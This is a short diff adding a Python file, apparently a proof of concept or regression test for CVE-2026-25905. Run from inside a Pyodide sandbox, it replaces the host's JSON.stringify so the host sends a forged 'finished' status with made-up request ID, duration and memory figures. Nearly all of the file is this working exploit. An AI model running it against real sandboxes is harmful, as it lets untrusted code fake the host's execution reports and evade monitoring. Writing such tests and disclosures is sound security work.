@@ -1,0 +1,10 @@
+"""Replaces the function that writes the host's messages, to forge them (CVE-2026-25905)."""
+
+from pyodide.code import run_js
+
+run_js("""() => {
+  const forged = { type: "finished", request_id: 99, status: "ok", duration_ms: 1, memory_bytes: 1 };
+  const { stringify } = JSON;
+  JSON.stringify = () => stringify(forged);
+}""")()
+print("a message to be forged")
